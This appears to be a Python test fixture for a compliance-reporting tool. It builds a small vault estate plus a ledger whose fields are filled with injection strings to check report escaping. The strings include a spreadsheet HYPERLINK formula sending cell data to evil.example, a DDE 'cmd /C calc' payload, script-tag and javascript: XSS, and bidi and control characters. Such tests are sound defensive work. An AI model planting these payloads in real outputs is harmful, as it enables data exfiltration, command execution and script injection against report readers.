"""Estates for the tests of reports: a small one of every status, and one whose names are attacks."""

from pathlib import Path

import msgspec
from tests.catalogs import service_file

from demarcate import assess_estate, read
from demarcate.catalog import Catalog
from demarcate.ledger import summarise
from demarcate.model import Ledger, Scope

SMALL = """
Parameters:
  Mode: {Type: String}
  Locked: {Type: String}
Resources:
  Good: {Type: 'Acme::Store::Vault', Properties: {Locked: true, Keys: 2, Sealed: true}}
  Open: {Type: 'Acme::Store::Vault', Properties: {Locked: false, Keys: 1}}
  Bare: {Type: 'Acme::Store::Vault', Properties: {Mode: bare, Locked: true, Keys: 3}}
  Perhaps: {Type: 'Acme::Store::Vault', Properties: {Mode: !Ref Mode, Locked: true, Keys: 2}}
  Undecided: {Type: 'Acme::Store::Vault', Properties: {Locked: !Ref Locked, Keys: 2, Peer: !Ref Good}}
  Kept:
    Type: Acme::Store::Vault
    Properties: {Locked: false}
    Metadata: {demarcate: {accept: [{control: acme-vault-locked, reason: '=a museum piece <b>', owner: '@me'}]}}
  Elsewhere: {Type: 'Other::Thing::Else'}
"""

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "# head",
    "- item",
    "12. item",
    "<script>alert(1)</script>",
    "[a](javascript:alert(1)) *b* `c` {{ insert: param, x }}",
    "\u202eevil\u202c",
    "a\x00b\x1fc\x7f",
    "  blank  ",
    "line\nbreak\r\n",
    "\ufffe\U0001f4a3",
)


def small(folder: Path) -> tuple[Ledger, Catalog]:
    """A ledger of six vaults, with every status that the tool gives, and the catalogue it is of."""
    data = Catalog((service_file(folder / "acme"),))
    Path("shop.yaml").write_text(SMALL, encoding="utf-8")
    return assess_estate(read(["shop.yaml"]), data), data


def attacked(folder: Path) -> tuple[Ledger, Catalog]:
    """The small ledger with a resource for every attack: as its name, id, account, Region and file."""
    ledger, data = small(folder)
    model = next(each for each in ledger.resources if each.name == "Open")
    resources, findings = list(ledger.resources), list(ledger.findings)
    duties = [each for each in ledger.duties if each.scope is Scope.RESOURCE]
    for text in ATTACKS:
        declared = msgspec.structs.replace(model.declared, file=text)
        new = msgspec.structs.replace(
            model, id=text, name=text, account=text, region=text, declared=declared, classification=text, holds=text
        )
        resources.append(new)
        duties += [
            msgspec.structs.replace(each, resource=text, findings=tuple(f"{text} {one}" for one in each.findings))
            for each in ledger.duties
            if each.resource == model.id
        ]
        findings += [
            msgspec.structs.replace(
                each, id=f"{text} {each.id}", resource=text, message=text, evidence={text: text}, declared=declared
            )
            for each in ledger.findings
            if each.resource == model.id
        ]
    skipped = tuple(msgspec.structs.replace(ledger.skipped[0], where=text, what=text, why=text) for text in ATTACKS)
    duties += [each for each in ledger.duties if each.scope is not Scope.RESOURCE]
    changed = msgspec.structs.replace(
        ledger,
        resources=tuple(resources),
        duties=tuple(duties),
        findings=tuple(findings),
        skipped=skipped,
        summary=summarise(duties, len(resources), findings),
    )
    return changed, data
